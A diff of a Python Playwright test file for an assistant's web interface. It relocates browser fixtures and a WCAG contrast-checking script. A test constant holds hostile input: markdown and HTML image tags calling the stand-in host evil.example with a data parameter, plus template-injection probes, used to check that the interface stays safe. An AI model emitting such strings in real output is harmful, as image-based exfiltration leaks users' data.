@@ -11,7 +11,7 @@ from threading import Event
 from typing import TYPE_CHECKING, Any, cast
 
 import pytest
-from playwright.sync_api import BrowserContext, Page, expect, sync_playwright
+from playwright.sync_api import BrowserContext, Page, expect
 
 from assistant import Assistant
 from assistant.answer import Abstention, Answer, Citation, Reason, Statement, Support
@@ -21,6 +21,7 @@ from assistant.web.page import EXAMPLES, LOOK, shown
 from assistant.web.sessions import Session, Sessions
 from index import Library
 from index.article import Article
+from tests.assistant.conftest import CONTRAST
 
 if TYPE_CHECKING:
     import gradio as gr
@@ -32,11 +33,6 @@ pytestmark = [
     pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
 ]
 
-CHROMIUM = "/usr/bin/chromium"
-FLAGS = (
-    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
-    "--disable-component-update --disable-sync"
-).split()
 QUESTION = "On what date did the Syrian opposition walk out of the Geneva talks?"
 HOSTILE = "![](http://evil.example/?d=1) <img src=http://evil.example/2> ${1+1} {{1+1}} $$x$$ *a*"
 
@@ -76,8 +72,8 @@ class Scripted:
 
 
 @contextmanager
-def served(assistant: object) -> Iterator[str]:
-    blocks = start(cast("Assistant", assistant), "127.0.0.1", 0)
+def served(assistant: object, runs: Path = Path("runs")) -> Iterator[str]:
+    blocks = start(cast("Assistant", assistant), "127.0.0.1", 0, runs=runs)
     try:
         yield str(blocks.local_url)
     finally:
@@ -99,32 +95,6 @@ def scripted(library: Library) -> Scripted:
 def scripted_url(scripted: Scripted) -> Iterator[str]:
     with served(scripted) as url:
         yield url
-
-
-@pytest.fixture(scope="module")
-def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
-    profile = tmp_path_factory.mktemp("profile")
-    with sync_playwright() as playwright:
-        context = playwright.chromium.launch_persistent_context(
-            profile, executable_path=CHROMIUM, headless=True, args=FLAGS
-        )
-        yield context
-        context.close()
-
-
-@pytest.fixture
-def page(browser: BrowserContext) -> Iterator[Page]:
-    """A page that must stay on this machine and free of errors."""
-    requests: list[str] = []
-    errors: list[str] = []
-    page = browser.new_page()
-    page.on("request", lambda request: requests.append(request.url))
-    page.on("pageerror", lambda error: errors.append(str(error)))
-    yield page
-    page.close()
-    inside = ("http://127.0.0.1:", "data:", "blob:")
-    assert [url for url in requests if not url.startswith(inside)] == []
-    assert errors == []
 
 
 def opened(page: Page, url: str) -> Page:
@@ -314,25 +284,6 @@ def test_text_stands_out_from_its_ground(page: Page, scripted_url: str, scheme: 
     expect(page.locator("#shelf mark")).to_be_visible()
     for place in ("#messages .question", "#messages .about", "#messages .quote", "#shelf mark"):
         assert page.locator(place).first.evaluate(CONTRAST) >= 4.5, place
-
-
-# The contrast ratio of WCAG 2.2 between an element's colour and the nearest painted ground.
-CONTRAST = """
-element => {
-  const parse = (colour) => (colour.match(/[\\d.]+/g) || []).map(Number);
-  const light = ([r, g, b]) => [r, g, b]
-    .map((v) => v / 255)
-    .map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
-    .reduce((sum, v, at) => sum + v * [0.2126, 0.7152, 0.0722][at], 0);
-  let ground = [255, 255, 255];
-  for (let one = element; one; one = one.parentElement) {
-    const [r, g, b, a = 1] = parse(getComputedStyle(one).backgroundColor);
-    if (a > 0.5) { ground = [r, g, b]; break; }
-  }
-  const [dark, bright] = [light(parse(getComputedStyle(element).color)), light(ground)].sort();
-  return (Math.max(dark, bright) + 0.05) / (Math.min(dark, bright) + 0.05);
-}
-"""
 
 
 @pytest.mark.parametrize(
